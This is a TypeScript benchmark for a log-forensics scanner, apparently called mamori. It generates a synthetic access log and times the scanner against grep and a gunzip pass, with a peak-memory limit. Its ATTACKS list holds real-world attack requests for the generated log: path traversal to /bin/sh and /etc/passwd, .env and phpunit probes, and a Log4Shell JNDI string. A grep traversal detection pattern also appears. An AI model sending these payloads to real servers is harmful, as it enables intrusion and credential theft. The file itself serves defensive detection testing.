/**
 * Log forensics speed: a generated combined log (deterministic seed, MAMORI_BENCH_MB, default 1024)
 * with a small share of attacks, and its gzip copy. Measures in the same run:
 *   bin/mamori (all rules) on the plain file vs `LC_ALL=C grep -c -E '(\.|%2[eE])(\.|%2[eE])/|%%32%65'`,
 *   mamori on the gzip copy vs a plain Node zlib.createGunzip() pass that only counts newlines,
 * and peak memory. Then the issue's generator (../shared/bench/genlog.mjs, seed 9) at 0.5% and at 20%
 * attack lines, same size: time and peak memory of each (an incident log is attack-heavy), each held to
 * the peak memory target (MEMORY_TARGET_MB: a run over it is flagged and the bench exits 1).
 * MAMORI_BENCH_TIMES=N (default 1) scans each genlog file written N times over (10 with the default
 * size: 10 GB; the same lines again, so the bounded state is as full as a long incident makes it).
 * Files go to os.tmpdir() and are removed after.
 */
import { spawn, spawnSync } from "node:child_process";
import {
  createReadStream,
  createWriteStream,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  statSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pipeline } from "node:stream/promises";
import { createGunzip, createGzip } from "node:zlib";

const MB = Number(process.env.MAMORI_BENCH_MB ?? 1024);
const TIMES = Math.max(1, Number(process.env.MAMORI_BENCH_TIMES ?? 1));
/** Peak memory `mamori logs` must stay under, whatever the size or share of attacks (issues 12, 13). */
const MEMORY_TARGET_MB = 200;
// MAMORI_BENCH_KEEP=DIR keeps the generated files there (for profiling); otherwise a temp dir, removed after.
const keep = process.env.MAMORI_BENCH_KEEP;
const dir = keep ?? mkdtempSync(join(tmpdir(), "mamori-bench-logs-"));
if (keep) mkdirSync(keep, { recursive: true });
const plain = join(dir, "access.log");
const gz = join(dir, "access.log.gz");
// What users run: bin/mamori (Node 24 with the compile cache on from the start).
const cli = new URL("../bin/mamori", import.meta.url).pathname;

let seed = 42;
const rnd = () => {
  seed = (seed * 1103515245 + 12345) & 0x7fffffff;
  return seed;
};
const pick = <T>(a: T[]) => a[rnd() % a.length] as T;
const PATHS = [
  "/",
  "/index.html",
  "/blog/2024/03/some-post.html?utm_source=feed&utm_medium=rss",
  "/images/logo.png",
  "/css/site.css?v=3",
  "/js/app.min.js",
  "/api/v1/items/123?fields=name%2Cprice",
  "/search?q=hello+world%20again",
  "/favicon.ico",
  "/wp-content/uploads/2023/05/photo-1024x768.jpg",
  "/shop/cart?add=42&qty=1",
  "/robots.txt",
];
const REFS = [
  "-",
  "https://www.google.com/",
  "https://www.example.com/blog/",
  "https://t.co/abc123",
  "https://www.google.com/url?q=https%3A%2F%2Fexample.com%2Fblog&sa=D",
];
const UAS = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
  "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
  "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
  "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
];
const ATTACKS = [
  'POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1" 400 226',
  'GET /icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd HTTP/1.1" 403 199',
  'GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1" 404 196',
  'GET /.env HTTP/1.1" 404 196',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload, not a template.
  'GET /?x=${jndi:ldap://198.51.100.1/a} HTTP/1.1" 404 196',
];

async function generate(): Promise<void> {
  const out = createWriteStream(plain);
  let size = 0;
  const target = MB * 2 ** 20;
  let t = Date.UTC(2024, 2, 1) / 1000;
  const months = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];
  while (size < target) {
    const lines: string[] = [];
    for (let i = 0; i < 5000; i++) {
      t += rnd() % 3;
      const d = new Date(t * 1000);
      const ts = `${String(d.getUTCDate()).padStart(2, "0")}/${months[d.getUTCMonth()]}/${d.getUTCFullYear()}:${String(d.getUTCHours()).padStart(2, "0")}:${String(d.getUTCMinutes()).padStart(2, "0")}:${String(d.getUTCSeconds()).padStart(2, "0")} +0000`;
      const ip = `${(rnd() % 223) + 1}.${rnd() % 256}.${rnd() % 256}.${rnd() % 256}`;
      const req =
        rnd() % 2000 === 0
          ? pick(ATTACKS)
          : `GET ${pick(PATHS)} HTTP/1.1" ${rnd() % 10 === 0 ? 304 : 200} ${rnd() % 60000}`;
      lines.push(`${ip} - - [${ts}] "${req} "${pick(REFS)}" "${pick(UAS)}"\n`);
    }
    const s = lines.join("");
    size += s.length;
    if (!out.write(s)) await new Promise<void>((r) => out.once("drain", () => r()));
  }
  await new Promise<void>((r) => out.end(() => r()));
  await pipeline(createReadStream(plain), createGzip({ level: 6 }), createWriteStream(gz));
}

function timed(
  cmd: string,
  args: string[],
  env: NodeJS.ProcessEnv = {},
): { s: number; peakMb?: number; cpu?: string; out: string } {
  const time = "/usr/bin/time";
  const useTime = spawnSync("test", ["-x", time]).status === 0;
  const t0 = process.hrtime.bigint();
  const r = useTime
    ? spawnSync(time, ["-f", "%P %M", cmd, ...args], { env: { ...process.env, ...env }, maxBuffer: 1 << 28 })
    : spawnSync(cmd, args, { env: { ...process.env, ...env }, maxBuffer: 1 << 28 });
  const s = Number(process.hrtime.bigint() - t0) / 1e9;
  const last = useTime ? (r.stderr.toString().trim().split("\n").pop() ?? "").split(" ") : [];
  const peak = useTime ? Number(last[1]) / 1024 : undefined;
  return { s, peakMb: peak, cpu: last[0], out: r.stdout.toString() };
}

async function gunzipCount(): Promise<number> {
  const t0 = process.hrtime.bigint();
  let n = 0;
  const g = createReadStream(gz).pipe(createGunzip());
  for await (const c of g as AsyncIterable<Buffer>) {
    let p = c.indexOf(10);
    while (p >= 0) {
      n++;
      p = c.indexOf(10, p + 1);
    }
  }
  void n;
  return Number(process.hrtime.bigint() - t0) / 1e9;
}

try {
  if (!keep || !existsSync(gz)) {
    process.stdout.write(`generating ${MB} MB in ${dir} ...\n`);
    await generate();
  }
  const gzMb = statSync(gz).size / 2 ** 20;
  createReadStream(plain).resume(); // warm nothing in particular; both sides read the same cached file
  const grep = timed("bash", ["-c", `LC_ALL=C grep -c -E '(\\.|%2[eE])(\\.|%2[eE])/|%%32%65' '${plain}'`]);
  const mPlain = timed(cli, ["logs", "--format", "json", plain]);
  const gunzip = await gunzipCount();
  const mGz = timed(cli, ["logs", "--format", "json", gz]);
  const doc = JSON.parse(mPlain.out);
  const f = doc.sections.logs.files[0];
  const genlog = new URL("../../shared/bench/genlog.mjs", import.meta.url).pathname;
  const attackRuns: string[] = [];
  if (existsSync(genlog))
    for (const rate of [0.005, 0.2]) {
      const file = join(dir, `genlog-${rate}.log`);
      if (!existsSync(file)) {
        // About 245 bytes a line.
        const lines = Math.round((MB * 2 ** 20) / 245);
        const out = createWriteStream(file);
        const g = spawn(process.execPath, [
          genlog,
          "--lines",
          String(lines),
          "--seed",
          "9",
          "--attack-rate",
          String(rate),
        ]);
        await pipeline(g.stdout, out);
      }
      let scanned = file;
      if (TIMES > 1) {
        scanned = join(dir, `genlog-${rate}-x${TIMES}.log`);
        if (!existsSync(scanned))
          spawnSync("bash", ["-c", `for i in $(seq ${TIMES}); do cat '${file}'; done > '${scanned}'`]);
      }
      const load = readFileSync("/proc/loadavg", "utf8").split(" ").slice(0, 3).join(" ");
      const r = timed(cli, ["logs", "--format", "json", scanned]);
      if (TIMES > 1 && !keep) rmSync(scanned, { force: true });
      const d = JSON.parse(r.out);
      const over = r.peakMb !== undefined && r.peakMb > MEMORY_TARGET_MB;
      if (over) process.exitCode = 1;
      const size = (statSync(file).size * TIMES) / 2 ** 20;
      attackRuns.push(
        `genlog ${(rate * 100).toFixed(1)}% attacks ${size.toFixed(0)} MB  ${r.s.toFixed(2)} s  ${d.sections.logs.eventsTotal} events   peak ${r.peakMb?.toFixed(0) ?? "?"} MB ${over ? `OVER the ${MEMORY_TARGET_MB} MB target` : `(target ${MEMORY_TARGET_MB} MB: ok)`}  cpu ${r.cpu ?? "?"}  (load ${load})`,
      );
    }
  process.stdout.write(
    [
      `plain ${MB} MB (${f.lines} lines, ${doc.sections.logs.eventsTotal} events); gzip ${gzMb.toFixed(0)} MB`,
      `grep (reference)          ${grep.s.toFixed(2)} s`,
      `mamori plain, all rules   ${mPlain.s.toFixed(2)} s  = ${(mPlain.s / grep.s).toFixed(2)}x grep   peak ${mPlain.peakMb?.toFixed(0) ?? "?"} MB  cpu ${mPlain.cpu ?? "?"}`,
      `node gunzip+count (ref)   ${gunzip.toFixed(2)} s`,
      `mamori gzip, all rules    ${mGz.s.toFixed(2)} s  = ${(mGz.s / gunzip).toFixed(2)}x gunzip peak ${mGz.peakMb?.toFixed(0) ?? "?"} MB  cpu ${mGz.cpu ?? "?"}`,
      ...attackRuns,
      "",
    ].join("\n"),
  );
} finally {
  if (!keep) rmSync(dir, { recursive: true, force: true });
}
